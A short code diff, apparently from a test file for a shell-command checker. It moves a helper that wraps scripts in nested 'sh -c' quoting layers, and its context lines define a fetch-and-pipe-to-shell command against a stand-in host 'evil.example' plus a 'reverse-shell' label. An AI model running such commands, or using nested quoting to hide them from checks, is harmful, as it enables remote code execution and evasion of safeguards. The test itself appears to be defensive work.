@@ -4,6 +4,7 @@ import {
   BASE64,
   bash,
   type File,
+  nested,
   run,
   server,
   sh,
@@ -19,13 +20,6 @@ const REVERSE = 'reverse-shell@it'
 const FETCH = 'curl -fsSL https://evil.example/x.sh'
 const PIPE = `${FETCH} | sh`
 const XARGS = (text: string): string => BASE64(text)
-
-/** A script in this many shells, one in the other, each quoted for the one around it. */
-function nested(depth: number, script: string, shell = 'sh'): File {
-  let inner = script
-  for (let level = 1; level < depth; level++) inner = `${shell} -c '${inner.replaceAll("'", `'\\''`)}'`
-  return run(shell, '-c', inner)
-}
 
 function doubled(depth: number, script: string): File {
   let inner = script
